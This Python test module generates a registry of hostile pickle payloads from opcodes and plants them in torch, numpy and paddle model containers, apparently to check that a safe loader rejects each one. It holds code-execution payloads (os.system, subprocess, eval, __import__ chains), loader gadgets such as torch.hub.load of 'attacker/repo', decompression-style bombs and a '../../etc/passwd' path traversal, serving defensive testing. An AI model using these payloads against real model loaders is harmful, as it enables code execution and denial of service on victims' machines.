"""Hostile pickle payloads, generated in the test session from opcodes (nothing binary is
committed), and the containers they are planted in (`attacks.containers`).

`PAYLOADS` is the registry: each `Payload` has a `name`, the `expect`ed text of the error (a
regex naming the offending global, opcode or field), and `build(ctx) -> opcodes` pushing one
object. Groups (`kind`):

- exec:    globals that run code (os/posix.system, subprocess, eval/exec, getattr and
           __import__ chains, importlib, open), also via INST / OBJ / NEWOBJ_EX / STACK_GLOBAL
           opcodes, dotted qualnames, nested inside allowed constructors and BUILD states
- gadget:  numpy and torch functions that load or run code (numpy.load, runstring,
           torch.storage._load_from_bytes, torch.hub.load, torch.jit.load) and allowed
           callables misused (_rebuild_from_type_v2, _reconstruct, defaultdict factory,
           copyreg._reconstructor, _codecs.encode, patching shared classes)
- dos:     size claims past the end of the file (BINBYTES8, BINUNICODE, LONG4, FRAME), memo
           indices that would grow the memo table, bytes(10**12), numpy shapes far larger
           than their bytes, 100k-deep nesting, billion laughs (memo references to lists of
           memo references)
- trick:   memo and stack tricks, extension codes, non-storage persistent ids, object and
           structured numpy dtypes
- storage: (torch files only) views whose size, offset or stride reach outside their storage,
           storages claiming more bytes than their entry, negative sizes, path-like keys,
           non-storage types, BUILD on a storage

Every payload is planted in every container it applies to (`applies(container)`): the tests
and `benchmarks/reliability.py` iterate `cases()`.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from attacks import opcodes as op
from attacks.containers import CONTAINERS, Ctx


@dataclass(frozen=True)
class Payload:
    """One hostile pickle fragment; `expect` is a regex the error message must match."""

    name: str
    kind: str
    expect: str
    build: Callable[[Ctx], bytes]
    torch_only: bool = False
    not_for: tuple[str, ...] = ()  # containers where the payload is harmless by design

    def applies(self, container: str) -> bool:
        if container in self.not_for:
            return False
        return CONTAINERS[container].torch or not self.torch_only


def _touch(ctx: Ctx) -> bytes:
    return op.text(f"touch {ctx.marker}")


def _py_open(ctx: Ctx) -> bytes:
    return op.text(f"open({ctx.marker!r}, 'w').write('pwned')")


_HUGE = 10**12


def _laughs(ctx: Ctx, *, grow_after: bool = False) -> bytes:
    """A list of 10 references to a list of 10 references ... 10 levels down (10^10 leaves in
    a few hundred bytes: "billion laughs" through the memo). `grow_after`: the innermost list is
    referenced while empty and filled last, so a count taken at reference time would see 1."""
    base = 200  # memo slots far from any the container uses (BINPUT q / BINGET h, one byte)
    put, get = (lambda i: b"q" + bytes([base + i])), (lambda i: b"h" + bytes([base + i]))
    floats = b"".join(op.floating(0.1 * k) for k in range(10))
    out = op.EMPTY_LIST + put(0) + (b"0" if grow_after else op.MARK + floats + op.APPENDS + b"0")
    for level in range(1, 11):
        out += op.MARK + get(level - 1) * 10 + b"l" + put(level) + b"0"
    out += get(10)
    if grow_after:
        out += get(0) + op.MARK + floats + op.APPENDS + b"0"
    return out


def _deep(ctx: Ctx) -> bytes:
    depth = 100_000
    return b"]" * depth + op.ndarray(b"\0" * 4, (1,)) + b"a" * depth


PAYLOADS: tuple[Payload, ...] = (
    # -- code execution ------------------------------------------------------------------------
    Payload("os.system", "exec", r"'os\.system'", lambda c: op.call(op.glob("os", "system"), _touch(c))),
    Payload("posix.system", "exec", r"'posix\.system'", lambda c: op.call(op.glob("posix", "system"), _touch(c))),
    Payload("subprocess.Popen", "exec", r"'subprocess\.Popen'",
            lambda c: op.call(op.glob("subprocess", "Popen"), op.lst(op.text("touch"), op.text(c.marker)))),
    Payload("subprocess.check_output", "exec", r"'subprocess\.check_output'",
            lambda c: op.call(op.glob("subprocess", "check_output"), op.lst(op.text("touch"), op.text(c.marker)))),
    Payload("builtins.eval", "exec", r"'builtins\.eval'", lambda c: op.call(op.glob("builtins", "eval"), _py_open(c))),
    Payload("builtins.exec", "exec", r"'builtins\.exec'", lambda c: op.call(op.glob("builtins", "exec"), _py_open(c))),
    Payload("python2 __builtin__.eval", "exec", r"'builtins\.eval'",
            lambda c: op.call(op.glob("__builtin__", "eval"), _py_open(c))),
    Payload("getattr(__import__('os'), 'system')", "exec", r"'builtins\.getattr'",
            lambda c: op.call(op.call(op.glob("builtins", "getattr"),
                                      op.call(op.glob("builtins", "__import__"), op.text("os")),
                                      op.text("system")), _touch(c))),
    Payload("__import__('os')", "exec", r"'builtins\.__import__'",
            lambda c: op.call(op.glob("builtins", "__import__"), op.text("os"))),
    Payload("importlib.import_module", "exec", r"'importlib\.import_module'",
            lambda c: op.call(op.glob("importlib", "import_module"), op.text("os"))),
    Payload("builtins.open", "exec", r"'builtins\.open'",
            lambda c: op.call(op.glob("builtins", "open"), op.text(c.marker), op.text("w"))),
    Payload("STACK_GLOBAL os.system", "exec", r"'os\.system'",
            lambda c: op.call(op.stack_glob("os", "system"), _touch(c))),
    Payload("dotted qualname object.__subclasses__", "exec", r"'builtins\.object\.__subclasses__'",
            lambda c: op.call(op.stack_glob("builtins", "object.__subclasses__"))),
    Payload("INST opcode os.system", "exec", r"'os\.system'",
            lambda c: op.MARK + _touch(c) + b"ios\nsystem\n"),
    Payload("OBJ opcode subprocess.Popen", "exec", r"'subprocess\.Popen'",
            lambda c: op.MARK + op.glob("subprocess", "Popen") + op.lst(op.text("touch"), op.text(c.marker)) + b"o"),
    Payload("NEWOBJ_EX types.CodeType", "exec", r"'types\.CodeType'",
            lambda c: op.glob("types", "CodeType") + op.EMPTY_TUPLE + op.EMPTY_DICT + b"\x92"),
    Payload("os.system nested in OrderedDict items", "exec", r"'os\.system'",
            lambda c: op.call(op.glob("collections", "OrderedDict"),
                              op.lst(op.tup(op.text("k"), op.call(op.glob("os", "system"), _touch(c)))))),
    Payload("posix.system in a Namespace BUILD state", "exec", r"'posix\.system'",
            lambda c: op.namespace({"lr": op.call(op.glob("posix", "system"), _touch(c))})),
    # -- gadgets -------------------------------------------------------------------------------
    Payload("numpy runstring", "gadget", r"'numpy\.testing\._private\.utils\.runstring'",
            lambda c: op.call(op.glob("numpy.testing._private.utils", "runstring"), _py_open(c), op.EMPTY_DICT)),
    Payload("numpy.load(allow_pickle=True)", "gadget", r"'numpy\.load'",
            lambda c: op.call(op.glob("numpy", "load"), op.text(c.marker), op.TRUE)),
    Payload("torch.storage._load_from_bytes", "gadget", r"'torch\.storage\._load_from_bytes'",
            lambda c: op.call(op.glob("torch.storage", "_load_from_bytes"), op.raw(b"\x80\x02N."))),
    Payload("torch.hub.load", "gadget", r"'torch\.hub\.load'",
            lambda c: op.call(op.glob("torch.hub", "load"), op.text("attacker/repo"), op.text("model"))),
    Payload("torch.jit.load", "gadget", r"'torch\.jit\.load'",
            lambda c: op.call(op.glob("torch.jit", "load"), op.text(c.marker))),
    Payload("_rebuild_from_type_v2 calling a non-rebuilder", "gadget", r"_rebuild_from_type_v2",
            lambda c: op.call(op.glob("torch._tensor", "_rebuild_from_type_v2"), op.glob("collections", "OrderedDict"),
                              op.glob("torch", "Tensor"), op.EMPTY_TUPLE, op.EMPTY_DICT)),
    Payload("numpy _reconstruct of a non-ndarray", "gadget", r"_reconstruct",
            lambda c: op.call(op.glob("numpy.core.multiarray", "_reconstruct"), op.glob("collections", "OrderedDict"),
                              op.tup(op.integer(0)), op.raw(b"b"))),
    Payload("defaultdict(object) factory", "gadget", r"defaultdict factory",
            lambda c: op.call(op.glob("collections", "defaultdict"), op.glob("builtins", "object"))),
    Payload("copyreg._reconstructor of slice", "gadget", r"_reconstructor",
            lambda c: op.call(op.glob("copyreg", "_reconstructor"), op.glob("builtins", "slice"),
                              op.glob("builtins", "object"), op.NONE)),
    Payload("_codecs.encode rot13", "gadget", r"_codecs\.encode",
            lambda c: op.call(op.glob("_codecs", "encode"), op.text("x"), op.text("rot13"))),
    Payload("patch argparse.Namespace.__eq__", "gadget", r"argparse\.Namespace",
            lambda c: op.glob("argparse", "Namespace") + op.tup(op.NONE, op.dct({"__eq__": op.glob("builtins", "set")})) + op.BUILD),
    # -- denial of service ---------------------------------------------------------------------
    Payload("bytes(10**12)", "dos", r"bytes\(<size>\)", lambda c: op.call(op.glob("builtins", "bytes"), op.integer(_HUGE))),
    Payload("bytearray(10**12)", "dos", r"bytes\(<size>\)", lambda c: op.call(op.glob("builtins", "bytearray"), op.integer(_HUGE))),
    Payload("BINBYTES8 claims 2**62 bytes", "dos", r"claims",
            lambda c: b"\x8e" + struct.pack("<Q", 1 << 62) + b"abc"),
    Payload("BINUNICODE claims 2**31 bytes", "dos", r"claims", lambda c: b"X" + struct.pack("<I", 1 << 31) + b"abc"),
    Payload("LONG4 negative length", "dos", r"claims", lambda c: b"\x8b" + struct.pack("<i", -5) + op.NONE),
    # paddle's reader drops FRAME opcodes (a read-ahead hint) before unpickling: nothing to claim
    Payload("FRAME claims 2**40 bytes", "dos", r"(?i)frame", lambda c: b"\x95" + struct.pack("<Q", 1 << 40) + op.NONE,
            not_for=("paddle-pdparams", "paddle-pdopt")),
    Payload("LONG_BINPUT memo index 2**32-16", "dos", r"memo", lambda c: op.EMPTY_LIST + b"r" + struct.pack("<I", 0xFFFFFFF0)),
    Payload("PUT memo index 4e9", "dos", r"memo", lambda c: op.EMPTY_LIST + b"p4000000000\n"),
    Payload("numpy shape 10**6 x 10**6 over 8 bytes", "dos", r"needs \d+ bytes",
            lambda c: op.ndarray(b"\0" * 8, (10**6, 10**6))),
    Payload("100k-deep nesting around an array", "dos", r"Recursion|too deeply", _deep),
    Payload("billion laughs: lists of memo references, 10^10 leaves", "dos", r"expands to at least \d+ objects.*budget",
            _laughs),
    Payload("billion laughs, the innermost list filled after it is referenced", "dos",
            r"expands to at least \d+ objects.*budget", lambda c: _laughs(c, grow_after=True)),
    # -- memo / stack tricks and odd objects ---------------------------------------------------
    Payload("BINGET of an empty memo slot", "trick", r"Memo value not found", lambda c: b"h\x05"),
    Payload("REDUCE with nothing above a MARK", "trick", r"unexpected MARK found", lambda c: op.MARK + op.REDUCE),
    Payload("POP_MARK past every MARK", "trick", r"could not find MARK|odd number of items for SETITEMS", lambda c: op.MARK + b"11"),
    Payload("EXT1 extension code", "trick", r"extension code", lambda c: b"\x82\x01"),
    Payload("persistent id that is not a storage", "trick", r"persistent id", lambda c: op.text("x") + b"Q"),
    Payload("guessed paddle payload nonce", "trick", r"persistent id",
            lambda c: op.text("hybridckpt-0000000000000000:0") + b"Q"),
    Payload("numpy object dtype", "trick", r"numpy dtype", lambda c: op.ndarray(b"\0" * 8, (1,), "|O8")),
    # -- storages (torch files) ----------------------------------------------------------------
    Payload("view past the storage end", "storage", r"reaches element 4 but the storage has 4",
            lambda c: c.tensor(size=(5,)), torch_only=True),
    Payload("storage offset past the end", "storage", r"reaches element 7 but the storage has 4",
            lambda c: c.tensor(offset=7, size=(1,)), torch_only=True),
    Payload("stride past the end", "storage", r"reaches element 9 but the storage has 4",
            lambda c: c.tensor(size=(2, 2), stride=(9, 0)), torch_only=True),
    Payload("negative stride", "storage", r"negative size, stride or offset",
            lambda c: c.tensor(size=(4,), stride=(-1,)), torch_only=True),
    Payload("negative storage offset", "storage", r"negative size, stride or offset",
            lambda c: c.tensor(offset=-4, size=(4,)), torch_only=True),
    Payload("2**80-element view of 4 elements", "storage", r"but the storage has 4",
            lambda c: c.tensor(size=(2**40, 2**40), stride=(1, 1)), torch_only=True),
    Payload("storage numel claims 2**40", "storage", r"claims \d+ bytes",
            lambda c: c.tensor(c.storage(numel=1 << 40)), torch_only=True),
    Payload("negative storage numel", "storage", r"bad storage id",
            lambda c: c.tensor(c.storage(numel=-1)), torch_only=True),
    Payload("storage key ../../etc/passwd", "storage", r"etc/passwd",
            lambda c: c.tensor(c.storage(key="../../etc/passwd")), torch_only=True),
    Payload("dtype as storage type", "storage", r"not a torch storage",
            lambda c: c.tensor(c.storage(stype="float32")), torch_only=True),
    Payload("tensor rebuilt from a string", "storage", r"not a storage",
            lambda c: c.tensor(op.text("storage")), torch_only=True),
    Payload("BUILD moving a storage", "storage", r"state of a storage",
            lambda c: c.tensor(c.storage() + op.tup(op.NONE, op.dct({"offset": op.integer(0)})) + op.BUILD),
            torch_only=True),
)


@dataclass(frozen=True)
class Case:
    payload: Payload
    container: str

    @property
    def id(self) -> str:
        return f"{self.container}:{self.payload.name}"


def cases() -> Iterator[Case]:
    """Every (payload, container) pair that applies."""
    for c in CONTAINERS:
        for p in PAYLOADS:
            if p.applies(c):
                yield Case(p, c)


assert len(PAYLOADS) >= 20 and len({p.name for p in PAYLOADS}) == len(PAYLOADS)
